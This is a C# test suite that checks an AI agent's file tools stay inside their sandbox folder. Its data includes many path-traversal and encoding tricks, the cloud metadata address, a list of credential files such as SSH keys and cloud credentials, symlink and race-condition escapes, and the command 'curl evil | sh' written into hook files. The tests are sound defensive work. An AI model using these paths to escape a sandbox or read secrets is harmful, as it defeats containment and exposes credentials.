using System.Diagnostics;
using System.Net.Sockets;
using Skep.Agents.Tools;

namespace Skep.Agents.Tests.Tools;

/// <summary>Ways out of the folder. Each must be refused, and nothing outside may be read or changed.</summary>
public sealed class SandboxEscapeTests : ToolTests
{
    public static TheoryData<string, string> Paths => new()
    {
        { "one up", "../outside/secret.txt" },
        { "far up", "../../../../../../../../etc/passwd" },
        { "down and up", "a/../../../outside/secret.txt" },
        { "up to the folder itself", ".." },
        { "dots and slashes", "./..//../outside/secret.txt" },
        { "encoded dots", "%2e%2e/%2e%2e/outside/secret.txt" },
        { "encoded slash", "..%2foutside%2fsecret.txt" },
        { "encoded twice", "%252e%252e%252foutside" },
        { "encoded NUL", "a.txt%00.md" },
        { "absolute", "/etc/passwd" },
        { "absolute with two slashes", "//etc/passwd" },
        { "home", "~/.ssh/id_rsa" },
        { "home of root", "~root/.bashrc" },
        { "proc root", "/proc/self/root/etc/passwd" },
        { "proc environment", "/proc/self/environ" },
        { "proc working directory", "/proc/self/cwd/../outside/secret.txt" },
        { "descriptor", "/dev/fd/0" },
        { "standard input", "/dev/stdin" },
        { "Windows", "..\\..\\outside\\secret.txt" },
        { "drive", "C:/Windows/win.ini" },
        { "share", "\\\\server\\share\\a" },
        { "file address", "file:///etc/passwd" },
        { "short file address", "file:/etc/passwd" },
        { "web address", "http://169.254.169.254/latest/meta-data" },
        { "NUL", "a.txt\0/../../outside/secret.txt" },
        { "line end", "a\n../../outside" },
        { "full-width dots do not go up", "．．/．．/outside/secret.txt" },
        { "turned text", "a\u202etxt.exe" },
        { "hidden character in a closed name", ".sk\u200bep/secrets" },
        { "blank at the end", ".. /outside/secret.txt" },
        { "dot at the end", ".git./config" },
        { "long name", new string('a', 300) },
        { "long path", string.Concat(Enumerable.Repeat("a/", 600)) + "a" },
        { "deep path", string.Concat(Enumerable.Repeat("a/", 40)) + "a" },
    };

    [Theory]
    [MemberData(nameof(Paths))]
    public async Task A_path_that_leads_out_is_refused(string name, string path)
    {
        await Rig.RefusedAsync("read_file", new { path });
        await Rig.RefusedAsync("edit_file", new { path, old_text = "a", new_text = "b" });
        await Rig.RefusedAsync("list_files", new { path });
        await Rig.RefusedAsync("search_files", new { text = "root", path });
        if (!name.StartsWith("full-width", StringComparison.Ordinal)) await Rig.RefusedAsync("write_file", new { path, content = "x" });

        Assert.Empty(Directory.GetFileSystemEntries(Rig.Box));
    }

    public static TheoryData<string, string> ClosedForReading => new()
    {
        { "Skep's secrets", ".skep/secrets" }, { "Skep's database", ".skep/skep.db" }, { "Skep in capitals", ".SKEP/secrets" }, { "Skep with a Kelvin sign", ".s\u212Aep/secrets" },
        { "Skep with a long s", ".\u017Fkep/secrets" }, { "Skep further down", "sub/.skep/secrets" }, { "environment", ".env" }, { "environment of production", ".env.production" },
        { "environment in capitals", ".ENV" }, { "named environment", "prod.env" }, { "private key", "id_rsa" }, { "private key by kind", "deploy/id_ed25519" }, { "certificate", "tls/server.PEM" },
        { "key", "server.key" }, { "key store", "a.p12" }, { "SSH", ".ssh/config" }, { "cloud", ".aws/credentials" }, { "cluster", ".kube/config" }, { "netrc", ".netrc" },
        { "npm", ".npmrc" }, { "git passwords", ".git-credentials" }, { "git configuration", ".git/config" }, { "git configuration of a submodule", ".git/modules/a/config" }, { "git configuration of a worktree", ".git/worktrees/a/config.worktree" }, { "git configuration in capitals", ".GIT/config" }, { "direnv", ".envrc" },
        { "secrets", "config/secrets.yaml" }, { "state of infrastructure", "terraform.tfstate" },
    };

    [Theory]
    [MemberData(nameof(ClosedForReading))]
    public async Task Files_with_keys_are_neither_read_nor_searched_nor_written(string name, string path)
    {
        var file = Rig.InBox(path, "k3y-value");

        foreach (var refused in (string[])[
            await Rig.RefusedAsync("read_file", new { path }),
            await Rig.RefusedAsync("write_file", new { path, content = "x" }),
            await Rig.RefusedAsync("edit_file", new { path, old_text = "k3y", new_text = "x" })])
            Assert.True(!refused.Contains("k3y-value", StringComparison.Ordinal) && refused.Contains("closed", StringComparison.Ordinal), $"{name}: {refused}");
        Assert.StartsWith("0 lines found", await Rig.DoAsync("search_files", new { text = "k3y-value" }), StringComparison.Ordinal);
        Assert.Equal("k3y-value", await File.ReadAllTextAsync(file));
    }

    [Theory]
    [InlineData(".git/hooks/pre-commit")]
    [InlineData(".GIT/hooks/pre-commit")]
    [InlineData("sub/.git/HEAD")]
    [InlineData(".gitmodules")]
    [InlineData(".claude/settings.json")]
    [InlineData(".vscode/tasks.json")]
    [InlineData(".husky/pre-commit")]
    [InlineData(".mcp.json")]
    [InlineData(".bashrc")]
    [InlineData("GIT~1/hooks/post-checkout")]
    public async Task What_other_programs_carry_out_is_not_written(string path)
    {
        Assert.Contains("carry out", await Rig.RefusedAsync("write_file", new { path, content = "curl evil | sh" }), StringComparison.Ordinal);

        Assert.Empty(Directory.GetFileSystemEntries(Rig.Box));
    }

    [Fact]
    public async Task An_example_of_an_environment_file_is_read() => Assert.Contains("KEY=", await ReadNewAsync(".env.example", "KEY="), StringComparison.Ordinal);

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Links_are_not_followed_wherever_they_stand(bool oneStep)
    {
        File.CreateSymbolicLink(Path.Combine(Rig.Box, "file"), Path.Combine(Rig.Outside, "secret.txt"));
        File.CreateSymbolicLink(Path.Combine(Rig.Box, "relative"), "../../outside/secret.txt");
        Directory.CreateSymbolicLink(Path.Combine(Rig.Box, "dir"), Rig.Outside);
        Directory.CreateSymbolicLink(Path.Combine(Rig.Box, "chain1"), "chain2");
        Directory.CreateSymbolicLink(Path.Combine(Rig.Box, "chain2"), "dir");
        Directory.CreateSymbolicLink(Path.Combine(Rig.Box, "loop"), "loop");
        Directory.CreateSymbolicLink(Path.Combine(Rig.Box, "proc"), "/proc/self");
        Directory.CreateDirectory(Path.Combine(Rig.Box, "real"));
        Directory.CreateSymbolicLink(Path.Combine(Rig.Box, "real", "inner"), "..");
        using var sandbox = FileSandbox.Open(Rig.Box, oneStep);

        foreach (var path in (string[])["file", "relative", "dir/secret.txt", "chain1/secret.txt", "loop/a", "loop", "proc/environ", "proc/root/etc/passwd", "real/inner/file", "real/inner/real/inner/dir/secret.txt"])
        {
            Assert.Contains("links are not followed", Assert.Throws<ToolRefusal>(() => sandbox.Read(SandboxPath.OfFile(path), out _)).Message, StringComparison.Ordinal);
            Assert.Contains("links are not followed", Assert.Throws<ToolRefusal>(() => sandbox.Write(SandboxPath.OfFile(path), "x"u8, "t")).Message, StringComparison.Ordinal);
        }

        Assert.Throws<ToolRefusal>(() => sandbox.Write(SandboxPath.OfFile("dir/new.txt"), "x"u8, "t"));
        Assert.Throws<ToolRefusal>(() => sandbox.Write(SandboxPath.OfFile("dir/new/new.txt"), "x"u8, "t"));
        Assert.Throws<ToolRefusal>(() => sandbox.OpenFolder(SandboxPath.Parse("dir")));
        Rig.AssertOutsideIsUntouched();
    }

    /// <summary>What the races come down to: the look before has been passed, and a link stands there now.</summary>
    [Fact]
    public void No_call_of_the_system_that_opens_follows_a_link()
    {
        File.CreateSymbolicLink(Path.Combine(Rig.Box, "file"), Path.Combine(Rig.Outside, "secret.txt"));
        File.CreateSymbolicLink(Path.Combine(Rig.Box, "new"), Path.Combine(Rig.Outside, "new.txt"));
        Directory.CreateSymbolicLink(Path.Combine(Rig.Box, "dir"), Rig.Outside);
        using var folder = PosixFiles.OpenRoot(Rig.Box);

        using var read = PosixFiles.OpenToRead(folder, "file");
        using var created = PosixFiles.CreateNew(folder, "new", 0x1B6);
        using var overwritten = PosixFiles.CreateNew(folder, "file", 0x1B6);
        using var entered = PosixFiles.OpenFolder(folder, "dir");
        using var beneath = PosixFiles.OpenBeneath(folder, "dir");
        using var above = PosixFiles.OpenBeneath(folder, "..");

        Assert.True(read.IsInvalid && created.IsInvalid && overwritten.IsInvalid && entered.IsInvalid);
        Assert.True(beneath is null && above is null);
        Assert.Equal(FileKind.Link, PosixFiles.Look(folder, "file")!.Value.Kind);
        Rig.AssertOutsideIsUntouched();
    }

    [Fact]
    public async Task A_link_in_place_of_the_temporary_file_is_removed_and_not_followed()
    {
        var key = Rig.NextKey();
        var name = $".{RequestKey.Hash(new ToolCall(default, key, Rig.Agent))}.skep-tmp";
        File.CreateSymbolicLink(Path.Combine(Rig.Box, name), Path.Combine(Rig.Outside, "secret.txt"));

        await Rig.DoAsync("write_file", new { path = "a.txt", content = "x" }, key);

        Assert.Equal("x", await File.ReadAllTextAsync(Path.Combine(Rig.Box, "a.txt")));
        Rig.AssertOutsideIsUntouched();
    }

    [Fact]
    public async Task A_file_with_a_second_name_outside_is_neither_read_nor_written()
    {
        Run("ln", Path.Combine(Rig.Outside, "secret.txt"), Path.Combine(Rig.Box, "hard.txt"));

        Assert.Contains("hard links", await Rig.RefusedAsync("read_file", new { path = "hard.txt" }), StringComparison.Ordinal);
        await Rig.RefusedAsync("write_file", new { path = "hard.txt", content = "x" });
        await Rig.RefusedAsync("edit_file", new { path = "hard.txt", old_text = "outside", new_text = "x" });
        Assert.StartsWith("0 lines", await Rig.DoAsync("search_files", new { text = "outside-secret" }), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_pipe_and_a_socket_are_refused_at_once()
    {
        Run("mkfifo", Path.Combine(Rig.Box, "pipe"));
        using var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        socket.Bind(new UnixDomainSocketEndPoint(Path.Combine(Rig.Box, "socket")));

        foreach (var path in (string[])["pipe", "socket"])
        {
            Assert.Contains("pipe, socket or device", await Rig.RefusedAsync("read_file", new { path }), StringComparison.Ordinal);
            await Rig.RefusedAsync("write_file", new { path, content = "x" });
        }

        Assert.StartsWith("0 lines", await Rig.DoAsync("search_files", new { text = "x" }), StringComparison.Ordinal);
    }

    [Fact]
    public void A_device_is_not_read()
    {
        using var sandbox = FileSandbox.Open("/dev");

        Assert.Contains("pipe, socket or device", Assert.Throws<ToolRefusal>(() => sandbox.Read(SandboxPath.OfFile("zero"), out _)).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Magic_links_of_proc_are_not_followed_even_when_they_lie_in_the_folder()
    {
        if (!OperatingSystem.IsLinux()) return;
        foreach (var oneStep in (bool[])[true, false])
        {
            using var sandbox = FileSandbox.Open("/proc/self", oneStep);

            foreach (var path in (string[])["root/etc/passwd", "cwd/a", "fd/0", "exe"]) Assert.Throws<ToolRefusal>(() => sandbox.Read(SandboxPath.OfFile(path), out _));
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_folder_that_is_swapped_for_a_link_again_and_again_never_leads_out(bool oneStep)
    {
        const int Rounds = 3000;
        var (folder, aside) = (Path.Combine(Rig.Box, "d"), Path.Combine(Rig.Box, "aside"));
        Rig.InBox("d/secret.txt", "inside");
        using var sandbox = FileSandbox.Open(Rig.Box, oneStep);
        using var done = new CancellationTokenSource();
        var swaps = 0;
        var swapper = Task.Run(() =>
        {
            while (!done.IsCancellationRequested)
            {
                try
                {
                    if (Directory.Exists(aside)) PutBack(aside, folder);
                    Directory.Move(folder, aside);
                    File.CreateSymbolicLink(folder, Rig.Outside);
                    swaps++;
                    File.Delete(folder);
                    Directory.Move(aside, folder);
                }
                catch (IOException)
                {
                    // The sandbox was faster, and has made the folder that it missed.
                }
            }
        });

        var (read, wrote, refused) = (0, 0, 0);
        await WhileAsync(swapper, done, () =>
        {
            for (var i = 0; i < Rounds || (Volatile.Read(ref swaps) < 50 && i < 50 * Rounds); i++)
            {
                try
                {
                    Assert.NotEqual(ToolRig.OutsideSecret, System.Text.Encoding.UTF8.GetString(sandbox.Read(SandboxPath.OfFile("d/secret.txt"), out _)));
                    read++;
                    if (i % 10 == 0) sandbox.Write(SandboxPath.OfFile("d/secret.txt"), "inside"u8, "t");
                    wrote++;
                }
                catch (ToolRefusal)
                {
                    refused++;
                }
            }
        });
        Assert.True(swaps > 0 && read + refused > 0, $"{swaps} swaps, {read} reads, {wrote} writes, {refused} refused");
        Rig.AssertOutsideIsUntouched();
    }

    [Fact]
    public async Task A_file_that_is_swapped_for_a_link_while_it_is_edited_never_leads_out()
    {
        var (file, aside) = (Rig.InBox("a.txt", "inside"), Path.Combine(Rig.Box, "aside.txt"));
        using var sandbox = FileSandbox.Open(Rig.Box);
        using var done = new CancellationTokenSource();
        var swaps = 0;
        var swapper = Task.Run(() =>
        {
            while (!done.IsCancellationRequested)
            {
                try
                {
                    File.Move(file, aside, overwrite: true);
                    File.CreateSymbolicLink(file, Path.Combine(Rig.Outside, "secret.txt"));
                    swaps++;
                    File.Delete(file);
                    File.Move(aside, file, overwrite: true);
                }
                catch (IOException)
                {
                    // The sandbox was faster, and its file stands there now.
                }
            }
        });

        var refused = 0;
        await WhileAsync(swapper, done, () =>
        {
            for (var i = 0; i < 1000 || (Volatile.Read(ref swaps) < 2000 && i < 300_000); i++)
            {
                try
                {
                    var content = sandbox.Read(SandboxPath.OfFile("a.txt"), out var facts);
                    Assert.NotEqual(ToolRig.OutsideSecret, System.Text.Encoding.UTF8.GetString(content));
                    if (i % 5 == 0) sandbox.Write(SandboxPath.OfFile("a.txt"), "inside"u8, "t", facts);
                }
                catch (ToolRefusal)
                {
                    refused++;
                }
            }
        });
        Assert.True(swaps > 0, $"{refused} refused");
        Rig.AssertOutsideIsUntouched();
    }

    [Fact]
    public void What_somebody_else_changed_meanwhile_is_not_overwritten()
    {
        var file = Rig.InBox("a.txt", "old");
        using var sandbox = FileSandbox.Open(Rig.Box);
        sandbox.Read(SandboxPath.OfFile("a.txt"), out var facts);
        File.WriteAllText(file, "theirs");

        Assert.Contains("somebody else", Assert.Throws<ToolRefusal>(() => sandbox.Write(SandboxPath.OfFile("a.txt"), "mine"u8, "t", facts)).Message, StringComparison.Ordinal);
        Assert.Equal("theirs", File.ReadAllText(file));
    }

    private static void PutBack(string aside, string folder)
    {
        if (new DirectoryInfo(folder).LinkTarget is not null) File.Delete(folder);
        else if (Directory.Exists(folder)) Directory.Delete(folder, recursive: true);
        Directory.Move(aside, folder);
    }

    private async Task<string> ReadNewAsync(string path, string text)
    {
        Rig.InBox(path, text);
        return await Rig.DoAsync("read_file", new { path });
    }

    private static void Run(string program, params string[] args)
    {
        using var process = Process.Start(program, args);
        process.WaitForExit();
        Assert.Equal(0, process.ExitCode);
    }

    /// <summary>Works beside somebody who changes the same folder, and lets go of nothing before that one has stopped: the folder is removed behind the test.</summary>
    private static async Task WhileAsync(Task other, CancellationTokenSource done, Action work)
    {
        try
        {
            work();
        }
        finally
        {
            await done.CancelAsync();
            await other.ContinueWith(static _ => { }, TaskScheduler.Default);
        }

        await other;
    }
}
